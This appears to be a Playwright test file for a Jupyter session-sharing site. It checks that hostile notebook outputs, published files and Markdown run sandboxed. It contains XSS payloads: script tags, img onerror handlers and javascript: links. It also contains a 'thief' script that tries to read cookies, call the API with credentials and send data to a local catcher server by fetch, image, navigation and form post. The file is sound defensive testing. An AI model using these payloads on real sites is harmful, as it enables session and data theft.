"""Content that tries to run script in our origin, to read cookies or to reach the API: it can't."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page, expect

from jupyter_sessions import schemas
from jupyter_sessions.cli.rendering.sandbox import framed
from tests.browser.conftest import Site, Visit, Visitor, command, shown, text, wait_until
from tests.waiting import STARTED_WITHIN

Catcher = tuple[str, list[str]]


@pytest.fixture(scope="module")
def catcher() -> Iterator[Catcher]:
    """Listen where stolen goods would arrive."""
    arrived: list[str] = []

    class Fence(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            arrived.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815  # the name that http.server calls

        def log_message(self, *_: object) -> None:
            """Stay quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Fence)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", arrived
    server.shutdown()
    thread.join()
    server.server_close()


def thief(site: Site, catcher: Catcher) -> str:
    """Return script that tries everything, and tells in its own document how it went."""
    sockets = site.url.replace("http", "ws")
    return f"""
      const seen = {{}};
      const attempt = async (name, work) => {{
        try {{ seen[name] = String(await work()); }} catch (error) {{ seen[name] = "refused"; }}
      }};
      (async () => {{
        await attempt("title", () => (top.document.title = "own" + "ed"));
        await attempt("cookie", () => document.cookie);
        await attempt("parent", () => parent.document.body.innerHTML.length);
        await attempt("storage", () => localStorage.length);
        await attempt("api", async () => (await fetch("{site.url}/sessions/api/user",
          {{credentials: "include"}})).status);
        await attempt("opaque", async () => (await fetch("{site.url}/sessions/api/user",
          {{credentials: "include", mode: "no-cors"}})).type);
        await attempt("page", async () => (await fetch("{site.url}/sessions/")).status);
        await attempt("send", async () =>
          (await fetch("{catcher[0]}/fetched", {{mode: "no-cors"}})).type);
        await attempt("image", () => new Promise((good, bad) => {{
          const image = new Image(); image.onload = good; image.onerror = bad;
          image.src = "{catcher[0]}/image"; }}));
        await attempt("socket", () => new Promise((good, bad) => {{
          const socket = new WebSocket("{sockets}/sessions/api/sessions/1/live");
          socket.onopen = good; socket.onerror = bad; }}));
        if (top !== self)
          await attempt("navigate", () => (top.location = "{catcher[0]}/navigated"));
        const report = document.createElementNS("http://www.w3.org/1999/xhtml", "pre");
        report.id = "report";
        report.textContent = JSON.stringify(seen);
        (document.body ?? document.documentElement).append(report);
      }})();
    """


def read_report(frame: object) -> dict[str, str]:
    report = frame.locator("#report")
    expect(report).to_be_attached()
    return json.loads(report.text_content())


ALL_REFUSED = dict.fromkeys(
    ("title", "cookie", "parent", "storage", "api", "opaque", "page", "send", "image", "socket",
     "navigate"),
    "refused",
)  # fmt: skip


@pytest.fixture
def victim(visit: Visit, visitor: Visitor, catcher: Catcher) -> Iterator[Page]:
    """Give a page of someone logged in; nothing of theirs may arrive at the catcher."""
    visitor.hostile = True
    page = visit("/sessions/", "victim")
    yield page
    assert "owned" not in page.title()
    assert catcher[1] == []


def test_html_output_runs_in_a_sandbox_where_everything_is_refused(
    site: Site, victim: Page, catcher: Catcher
) -> None:
    code = site.session("Hostile output", victim="admin")
    html = f"<h1>Hello</h1><script>{thief(site, catcher)}</script>"
    site.record(code, command("evil()", shown(text__html=html, text__plain="x")))
    for tail in ("", "/commands/1"):
        victim.goto(site.address(code, tail))
        assert read_report(victim.frame_locator("#c1 iframe")) == ALL_REFUSED


def test_an_output_opened_by_itself_is_shown_in_the_frame_of_its_command(
    site: Site, victim: Page, catcher: Catcher
) -> None:
    code = site.session("Hostile alone", victim="admin")
    html = f"<script>{thief(site, catcher)}</script>"
    site.record(code, command("evil()", shown(text__html=html, text__plain="x")))
    victim.goto(site.address(code, "/commands/1/outputs/0"))
    assert victim.url.partition("#")[0] == site.address(code, "/commands/1")
    assert read_report(victim.frame_locator("#c1 iframe")) == ALL_REFUSED


def test_an_svg_in_a_page_runs_no_script(site: Site, victim: Page, catcher: Catcher) -> None:
    code = site.session("Hostile image", victim="admin")
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="33" height="9">'
        f'<script>top.document.title = "own" + "ed"; fetch("{catcher[0]}/svg")</script></svg>'
    )
    site.record(code, command("evil()", shown(image__svg_xml=svg, text__plain="x")))
    victim.goto(site.address(code))
    wait_until(victim, "document.querySelector('#c1 img').naturalWidth === 33")


MARKUP = (
    "</pre></title><script>document.title='own'+'ed'</script>"
    "<img src=x onerror=\"document.title='own'+'ed'\">"
)


def test_markup_in_words_stays_words(site: Site, victim: Page) -> None:
    code = site.session(MARKUP[:200], victim="admin")
    site.record(
        code,
        command(
            MARKUP,
            text(MARKUP),
            text(f"\x1b[31m{MARKUP}\x1b[0m"),
            shown(text__plain=MARKUP),
            schemas.ErrorOutput(ename=MARKUP, evalue=MARKUP, traceback=[MARKUP]),
            shown(application__x=MARKUP),
            shown(image__png="AAAA", text__plain=f'"{MARKUP}'),
            status="error",
        ),
    )
    site.publish(code, "b&b <i>.txt", MARKUP.encode())
    for tail in ("", "/commands/1", "/files", "/members", "/activity", "/files/b&b <i>.txt",
                 f"?search={MARKUP}", f"?user={MARKUP}", "/json/request/1.json",
                 "/json/response/1.json", "/commands/1?fragment=1"):  # fmt: skip
        victim.goto(site.address(code, tail))
        assert victim.locator("main img[src=x], main script").count() == 0, tail
        assert "owned" not in victim.title(), tail
    victim.goto(site.address(code))
    assert victim.locator("#c1 .source").text_content() == MARKUP
    assert victim.locator("#c1 .stdout").first.text_content() == MARKUP


def test_markdown_brings_neither_script_nor_script_links(
    site: Site, victim: Page, catcher: Catcher
) -> None:
    code = site.session("Hostile Markdown", victim="admin")
    source = (
        f"{MARKUP}\n\n<script>{thief(site, catcher)}</script>\n\n[a](javascript:alert(1)) "
        f"![b]({catcher[0]}/pixel) "
        "$\\text{</math><script>document.title='own'+'ed'</script>}$ terminus"
    )
    site.record(code, command("evil()", shown(text__markdown=source, text__plain="x")))
    site.publish(code, "evil.md", source.encode())
    for tail in ("", "/files/evil.md"):
        victim.goto(site.address(code, tail))
        frame = victim.frame_locator("iframe")
        expect(frame.get_by_text("terminus")).to_be_attached()
        assert frame.locator("body script").count() == 0
        assert frame.locator("a[href^=javascript]").count() == 0


def test_published_pages_and_notebooks_are_in_the_sandbox(
    site: Site, victim: Page, catcher: Catcher
) -> None:
    code = site.session("Hostile files", victim="admin")
    html = f"<!doctype html><body><script>{thief(site, catcher)}</script>"
    cell = {
        "cell_type": "code",
        "metadata": {},
        "execution_count": 1,
        "source": MARKUP,
        "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": html}}],
    }
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}
    site.publish(code, "evil.html", html.encode())
    site.publish(code, "evil.ipynb", json.dumps(notebook).encode())
    site.publish(code, "evil.csv", f'a,b\n"{MARKUP.replace(chr(34), chr(34) * 2)}",2\n'.encode())
    for path in ("evil.html", "evil.ipynb"):
        victim.goto(site.address(code, f"/files/{path}"))
        assert read_report(victim.frame_locator("iframe")) == ALL_REFUSED
    victim.goto(site.address(code, "/files/evil.csv"))
    expect(victim.frame_locator("iframe").locator("td").first).to_have_text(MARKUP)


def test_a_frame_can_make_itself_no_higher_than_is_sensible(site: Site, victim: Page) -> None:
    code = site.session("Hostile height", victim="admin")
    html = """<p id=sent></p><script>
      const say = (height) => parent.postMessage({jupyterSessions: "height", height}, "*");
      say(1e9); say("1px; background: url(x)"); say(NaN); say(-5); say(1e9);
      document.getElementById("sent").textContent = "sent";
    </script>"""
    site.record(code, command("evil()", shown(text__html=html, text__plain="x")))
    victim.goto(site.address(code))
    expect(victim.frame_locator("iframe").get_by_text("sent")).to_be_attached()
    wait_until(victim, "document.querySelector('iframe').style.height !== ''")
    assert victim.locator("iframe").evaluate("e => e.offsetHeight") <= 6000


def test_a_frame_can_lead_itself_nowhere_else(site: Site, victim: Page, catcher: Catcher) -> None:
    code = site.session("Hostile navigation", victim="admin")
    ways = (
        f"<script>location.href = '{catcher[0]}/script'</script>",
        f"<meta http-equiv=refresh content='0; url={catcher[0]}/refresh'>",
        f"<form action='{catcher[0]}/form' method=post></form>"
        "<script>document.forms[0].submit()</script>",
        f"<script>location.href = '{site.url}/sessions/'</script>",
    )
    site.record(code, *(command("evil()", shown(text__html=way)) for way in ways))
    refused = []
    victim.on("console", lambda message: refused.append(message.text))
    victim.goto(site.address(code))
    wait_until(victim, "document.querySelectorAll('iframe').length === 4")
    deadline = time.monotonic() + STARTED_WITHIN
    while sum("Content Security Policy" in text for text in refused) < 3:
        assert time.monotonic() < deadline, refused
        victim.wait_for_timeout(50)
    assert not any(frame.locator("main").count() for frame in victim.frames[1:])


def test_another_site_can_neither_frame_a_page_nor_post_a_form(
    site: Site, victim: Page, catcher: Catcher
) -> None:
    elsewhere = site.url.replace("127.0.0.1", "localhost")
    victim.route(f"{elsewhere}/attack", lambda route: route.fulfill(
        content_type="text/html",
        body=f"""<iframe src="{site.url}/sessions/"></iframe>
          <form method=post action="{site.url}/sessions/logout">
            <button>Win a prize</button></form>""",
    ))  # fmt: skip
    victim.goto(f"{elsewhere}/attack")
    assert victim.frames[1].locator("main").count() == 0
    victim.get_by_role("button", name="Win a prize").click()
    victim.wait_for_url("**/sessions/logout")
    expect(victim.get_by_role("heading", level=1)).to_contain_text("another site")
    victim.goto("/sessions/")
    assert victim.url == f"{site.url}/sessions/"


def test_a_published_page_in_the_whole_window_can_lead_it_nowhere(
    site: Site, victim: Page, catcher: Catcher
) -> None:
    code = site.session("Hostile page alone", victim="admin")
    page = (
        "<p>terminus</p><script>onclick = () => { "
        f"location = '{catcher[0]}/left?' + encodeURIComponent(location.href) }}</script>"
    )
    site.publish(code, "leave.html", page.encode())
    victim.goto(site.address(code, "/files/leave.html"))
    with victim.context.expect_page() as opened:
        victim.get_by_role("link", name="Open in new tab").click()
    tab = opened.value
    inside = tab.frame_locator("main iframe").get_by_text("terminus")
    expect(inside).to_be_attached()
    with tab.expect_event("framenavigated"):
        inside.click()
    assert tab.url == site.address(code, "/files/leave.html?alone=1")


def test_what_others_put_out_reaches_nothing_from_a_notebook_that_shows_it(
    chromium: Browser, site: Site, catcher: Catcher
) -> None:
    arrived = len(catcher[1])
    there = catcher[0]
    outputs = [
        f"<h1>Hello</h1><script>{thief(site, catcher)}</script>",
        f"<p>x</p><script>location = '{there}/away'</script>",
        f'<meta http-equiv="refresh" content="0;url={there}/refresh">x',
        f'<img src="{there}/image"><link rel="stylesheet" href="{there}/css">'
        f"<style>body {{ background: url({there}/style) }}</style>"
        f'<iframe src="{there}/in"></iframe>',
        f'<a id="go" href="{there}/link">go</a>',
    ]
    page = chromium.new_page()
    page.set_default_timeout(STARTED_WITHIN * 1_000)
    try:
        page.set_content("".join(framed(each, "bob") for each in outputs))
        frames = page.locator("iframe")
        first = frames.nth(0).content_frame.frame_locator("iframe")
        assert read_report(first) == ALL_REFUSED
        frames.nth(4).content_frame.frame_locator("iframe").locator("#go").click()
        page.wait_for_timeout(1_000)
        assert "owned" not in page.title()
        assert catcher[1][arrived:] == []
    finally:
        page.close()
